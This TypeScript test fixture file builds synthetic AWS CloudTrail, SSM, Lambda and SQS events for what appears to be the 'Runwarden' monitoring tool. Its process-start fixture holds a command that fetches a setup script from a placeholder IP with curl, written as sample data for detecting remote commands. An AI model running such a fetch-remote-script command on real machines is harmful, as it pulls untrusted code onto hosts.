let counter = 0

/** A UUID no other event of this run has, zero-filled. */
export const nextId = (): string => `00000000-0000-0000-0000-${String(++counter).padStart(12, '0')}`

const ACCOUNT = '123456789012'

export const REGION = 'us-east-1'

/** The machine most events are about. */
export const MACHINE = 'i-0123456789abcdef0'

/** As many different machine ids as wanted. */
export const machines = (count: number, mark = '0'): readonly string[] =>
  Array.from({ length: count }, (_, place) => `i-${mark}${String(place).padStart(16, '0')}`)

/** What the envelope of every event on the bus holds. */
const busEvent = (detailType: string, source: string, time: string, detail: unknown) => ({
  version: '0',
  id: nextId(),
  'detail-type': detailType,
  source,
  account: ACCOUNT,
  time,
  region: REGION,
  resources: [] as readonly string[],
  detail,
})

interface CallOptions {
  readonly eventId?: string
  readonly time?: string
  readonly role?: string
  readonly session?: string
  readonly ip?: string
  readonly account?: string
  readonly region?: string
}

/** A call by an assumed role as EventBridge delivers it. `operation` is `<service>:<event name>`. */
const callEvent = (
  operation: string,
  requestParameters: unknown,
  responseElements: unknown,
  options: CallOptions = {},
) => {
  const {
    eventId = nextId(),
    time = '2026-03-02T10:00:00Z',
    role = 'Deploy',
    session = 'session-1',
    ip = '192.0.2.10',
    account = ACCOUNT,
    region = REGION,
  } = options
  const [service = '', eventName = ''] = operation.split(':')
  return {
    ...busEvent('AWS API Call via CloudTrail', `aws.${service}`, time, {
      eventVersion: '1.11',
      userIdentity: {
        type: 'AssumedRole',
        principalId: `AROAEXAMPLEEXAMPLE000:${session}`,
        arn: `arn:aws:sts::${account}:assumed-role/${role}/${session}`,
        accountId: account,
        accessKeyId: 'ASIAEXAMPLEEXAMPLE00',
        sessionContext: {
          sessionIssuer: {
            type: 'Role',
            principalId: 'AROAEXAMPLEEXAMPLE000',
            arn: `arn:aws:iam::${account}:role/${role}`,
            accountId: account,
            userName: role,
          },
        },
      },
      eventTime: time,
      eventSource: `${service}.amazonaws.com`,
      eventName,
      awsRegion: region,
      sourceIPAddress: ip,
      userAgent: 'aws-cli/2.17.32',
      requestParameters,
      responseElements,
      requestID: nextId(),
      eventID: eventId,
      readOnly: false,
      eventType: 'AwsApiCall',
      managementEvent: true,
      recipientAccountId: account,
      eventCategory: 'Management',
    }),
    account,
    region,
  }
}

export interface SendCommandOptions extends CallOptions {
  readonly commandId?: string
  readonly instances?: readonly string[]
  readonly targets?: readonly { readonly key: string; readonly values: readonly string[] }[]
  readonly document?: string
}

const MASKED = 'HIDDEN_DUE_TO_SECURITY_REASONS'

/** A SendCommand; the text is hidden, as CloudTrail hides it. */
export const sendCommandEvent = ({
  commandId = nextId(),
  instances = [MACHINE],
  targets = [],
  document = 'AWS-RunShellScript',
  ...options
}: SendCommandOptions = {}) => {
  const aim = targets.length > 0 ? { targets } : { instanceIds: instances }
  const command = {
    commandId,
    documentName: document,
    documentVersion: '$DEFAULT',
    instanceIds: [],
    targets: [],
    ...aim,
    targetCount: targets.length > 0 ? 0 : instances.length,
    parameters: MASKED,
    status: 'Pending',
    maxConcurrency: '50',
    maxErrors: '0',
  }
  return callEvent(
    'ssm:SendCommand',
    { documentName: document, ...aim, interactive: false, parameters: MASKED },
    { command },
    options,
  )
}

/** A session on one machine: no text to be asked for. */
export const startSessionEvent = (target: string, options: CallOptions = {}) =>
  callEvent(
    'ssm:StartSession',
    { target },
    { sessionId: `${options.role ?? 'Deploy'}-0123456789abcdef0`, tokenValue: 'Value hidden due to security reasons.' },
    options,
  )

/** Somebody replaces the code of a function. */
export const updateFunctionEvent = (functionName: string, options: CallOptions = {}) =>
  callEvent(
    'lambda:UpdateFunctionCode20150331v2',
    { functionName, dryRun: false },
    { functionName, functionArn: `arn:aws:lambda:${REGION}:${ACCOUNT}:function:${functionName}` },
    options,
  )

/** Systems Manager's own status event of a command, with its text in clear. */
export const nativeCommandEvent = (commandId: string, commands: readonly string[], time = '2026-03-02T10:00:01Z') => ({
  ...busEvent('EC2 Command Status-change Notification', 'aws.ssm', time, {
    'command-id': commandId,
    'document-name': 'AWS-RunShellScript',
    parameters: { commands },
    'requested-date-time': time,
    status: 'Success',
  }),
  resources: [`arn:aws:ec2:${REGION}:${ACCOUNT}:instance/${MACHINE}`],
})

/** A process that the guest agent started for a command, as one log shipper puts it on the bus. */
export const processEvent = (commandId: string, time = '2026-03-02T10:00:05.250Z') => {
  const script =
    `/var/lib/amazon/ssm/${MACHINE}/document/orchestration/${commandId}` +
    '/awsrunShellScript/0.awsrunShellScript/_script.sh'
  return busEvent('Runwarden Endpoint', 'runwarden.endpoint', '2026-03-02T10:00:06Z', {
    '@timestamp': time,
    ecs: { version: '8.10.0' },
    event: { id: nextId(), kind: 'event', category: ['process'], type: ['start'], action: 'exec' },
    process: {
      entity_id: 'e-2',
      pid: 4_103,
      name: 'curl',
      executable: '/usr/bin/curl',
      command_line: 'curl -s http://203.0.113.9/setup.sh',
      parent: {
        entity_id: 'e-1',
        pid: 4_102,
        name: 'sh',
        executable: '/usr/bin/sh',
        command_line: `sh ${script}`,
        args: ['sh', script],
      },
      entry_leader: { entity_id: 'e-0', pid: 900, name: 'amazon-ssm-agent', executable: '/usr/bin/amazon-ssm-agent' },
    },
    host: { name: 'ip-10-0-0-5', hostname: 'ip-10-0-0-5' },
    cloud: { provider: 'aws', instance: { id: MACHINE }, account: { id: ACCOUNT }, region: REGION },
  })
}

/** What the schedule of the deployment sends every five minutes. */
export const heartbeatEvent = () => busEvent('Runwarden Heartbeat', 'runwarden.heartbeat', '2026-03-02T10:05:00Z', {})

/** What `runwarden selftest aws` puts on the bus. */
export const selftestEvent = (mark: string) =>
  busEvent('Runwarden Selftest', 'runwarden.selftest', '2026-03-02T10:05:00Z', { mark })

/** What the Azure half sends of one of its activities. */
export const trace = (given: Readonly<Record<string, unknown>> = {}) => ({
  schema: 'runwarden.digest/1',
  id: '00000000-0000-0000-0000-0000000000f1-0',
  at: Date.UTC(2026, 2, 2, 9, 30),
  human: 'alice@example.com',
  address: '192.0.2.10',
  asn: null,
  family: 'command',
  ...given,
})

/** Messages of a queue as Lambda hands them over. */
export const queueEvent = (bodies: readonly unknown[]) => ({
  Records: bodies.map((body, place) => ({
    messageId: `m${place}`,
    receiptHandle: `r${place}`,
    body: typeof body === 'string' ? body : JSON.stringify(body),
    attributes: {},
    messageAttributes: {},
    eventSource: 'aws:sqs',
    eventSourceARN: `arn:aws:sqs:${REGION}:${ACCOUNT}:traces`,
    awsRegion: REGION,
  })),
})
